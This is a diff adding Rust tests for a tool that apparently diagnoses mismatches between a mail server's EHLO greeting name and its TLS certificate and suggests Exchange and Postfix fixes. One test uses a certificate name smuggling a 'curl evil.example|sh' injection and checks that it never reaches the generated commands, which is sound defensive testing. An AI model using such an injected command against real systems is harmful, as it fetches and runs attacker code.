@@ -214,3 +214,151 @@ fn an_unsent_issuer_is_said_to_be_an_intermediate_or_a_root_and_how_to_tell() {
         }
     }
 }
+
+// --- The EHLO greeting name (issue 8 item 5; new-user untrue finding 3, wrong fixes 4, 11, 12).
+
+/// A server greeting as `greeting` with a trusted certificate for `names`, probed as `host`.
+fn greeting_case(host: &str, greeting: &str, names: &[&str], kind: &str) -> Observation {
+    let w = world();
+    as_server(observed(host, greeting, chain_for(&w, names), &w.trust), kind)
+}
+
+#[test]
+fn the_greeting_fix_uses_the_name_senders_check_not_the_first_on_the_certificate() {
+    let names = ["autodiscover.contoso.test", HOST, "hybrid.contoso.test"];
+    let private = "srvex01.domain.local";
+    for (kind, expect) in [
+        ("exchange", format!("-Fqdn {HOST}")),
+        ("postfix", format!("myhostname={HOST}")),
+        ("unknown", format!("({HOST})")),
+    ] {
+        let f = run(&greeting_case(HOST, private, &names, kind), &Policy::default());
+        let text = find(&f, Code::CertEhloNameMismatch).fix.text();
+        assert!(text.contains(&expect), "{kind}: {expect} missing:\n{text}");
+        assert!(!text.contains("autodiscover"), "{kind}:\n{text}");
+        assert!(
+            !text.contains(&format!("add {private}")),
+            "{kind}: no public CA issues a certificate for {private}:\n{text}"
+        );
+    }
+    // --expect-name names what the sender checks (an Exchange Online connector's TlsDomain).
+    let policy = with_expected(&["hybrid.contoso.test"]);
+    let f = run(&greeting_case(HOST, private, &names, "exchange"), &policy);
+    let text = find(&f, Code::CertEhloNameMismatch).fix.text();
+    assert!(text.contains("-Fqdn hybrid.contoso.test"), "{text}");
+    assert!(
+        !text.contains("Exchange Online checks this name"),
+        "Exchange Online checks its connector's TlsDomain, not the greeting:\n{text}"
+    );
+}
+
+#[test]
+fn adding_the_greeting_to_the_certificate_is_offered_only_for_a_public_name() {
+    let public = "relay.fabrikam.com";
+    let f = run(
+        &greeting_case(HOST, public, &[HOST], "unknown"),
+        &Policy::default(),
+    );
+    let text = find(&f, Code::CertEhloNameMismatch).fix.text();
+    assert!(text.contains(&format!("add {public}")), "{text}");
+    for private in ["exch01.corp.contoso.local", "relay.internal.test", "srv.lan"] {
+        for kind in ["exchange", "postfix", "unknown"] {
+            let f = run(
+                &greeting_case(HOST, private, &[HOST], kind),
+                &Policy::default(),
+            );
+            let text = find(&f, Code::CertEhloNameMismatch).fix.text();
+            assert!(!text.contains(&format!("add {private}")), "{kind}:\n{text}");
+        }
+    }
+}
+
+#[test]
+fn an_unsafe_first_name_on_the_certificate_does_not_hide_a_safe_one() {
+    let evil = "x';curl evil.example|sh;'.test";
+    let obs = greeting_case("192.0.2.10", "exch01.corp.contoso.local", &[evil, HOST], "exchange");
+    let f = run(&obs, &Policy::default());
+    let text = find(&f, Code::CertEhloNameMismatch).fix.text();
+    assert!(text.contains(&format!("-Fqdn {HOST}")), "{text}");
+    assert!(!text.contains("evil.example"), "{text}");
+}
+
+#[test]
+fn a_greeting_name_off_the_certificate_is_info_unless_exchange_picks_its_certificate_by_it() {
+    let internal = "relay.internal.test";
+    for kind in ["postfix", "unknown"] {
+        let f = run(
+            &greeting_case(HOST, internal, &[HOST], kind),
+            &Policy::default(),
+        );
+        assert_eq!(
+            find(&f, Code::CertEhloNameMismatch).severity,
+            Severity::Info,
+            "{kind}: senders check the MX name, which the certificate covers"
+        );
+        find(&f, Code::StarttlsOk);
+    }
+    let f = run(
+        &greeting_case(HOST, internal, &[HOST], "exchange"),
+        &Policy::default(),
+    );
+    assert_eq!(
+        find(&f, Code::CertEhloNameMismatch).severity,
+        Severity::Warn,
+        "Exchange chooses its certificate by the connector Fqdn when TlsCertificateName is empty"
+    );
+    // When the host name probed is not covered either, the greeting is no side note.
+    let f = run(
+        &greeting_case(HOST, internal, &["other.contoso.test"], "postfix"),
+        &Policy::default(),
+    );
+    assert_eq!(
+        find(&f, Code::CertEhloNameMismatch).severity,
+        Severity::Warn
+    );
+}
+
+#[test]
+fn the_postfix_greeting_fix_names_the_service_and_what_the_override_changes() {
+    let obs = greeting_case(HOST, "relay.internal.test", &[HOST], "postfix");
+    let f = run(&obs, &Policy::default());
+    let fix = &find(&f, Code::CertEhloNameMismatch).fix;
+    let cmds: Vec<&str> = fix.commands().map(|(_, c)| c).collect();
+    assert!(
+        cmds.contains(&"postconf -P 'smtp/inet/myhostname=mail.contoso.test'"),
+        "{fix}"
+    );
+    assert!(cmds.iter().any(|c| c.starts_with("postconf -P | grep")), "{fix}");
+    let text = fix.text();
+    assert!(!text.contains("stay as they are"), "{text}");
+    assert!(text.contains("mydestination"), "{text}");
+    // On a port that no stock service listens on, the service is looked up, never guessed.
+    let f = run(&on_port(obs, 2533), &Policy::default());
+    let fix = &find(&f, Code::CertEhloNameMismatch).fix;
+    let cmds: Vec<&str> = fix.commands().map(|(_, c)| c).collect();
+    assert!(
+        cmds.iter()
+            .any(|c| c.starts_with("service_2533=$(postconf -M") && c.contains("(^|:)2533$")),
+        "{fix}"
+    );
+    assert!(
+        cmds.contains(&"postconf -P \"${service_2533:?}/inet/myhostname=mail.contoso.test\""),
+        "{fix}"
+    );
+}
+
+#[test]
+fn exchange_online_connector_commands_only_for_exchange() {
+    let policy = with_expected(&["hybrid.contoso.test"]);
+    for (kind, online) in [("exchange", true), ("postfix", false), ("unknown", false)] {
+        let w = world();
+        let obs = as_server(observed(HOST, HOST, chain_for(&w, &[HOST]), &w.trust), kind);
+        let f = run(&obs, &policy);
+        let fix = &find(&f, Code::CertExpectedNameMismatch).fix;
+        let exo = fix
+            .commands()
+            .any(|(s, _)| s == Shell::ExchangeOnlinePowerShell);
+        assert_eq!(exo, online, "{kind}:\n{fix}");
+        assert!(fix.text().contains("TlsDomain"), "{kind}:\n{fix}");
+    }
+}
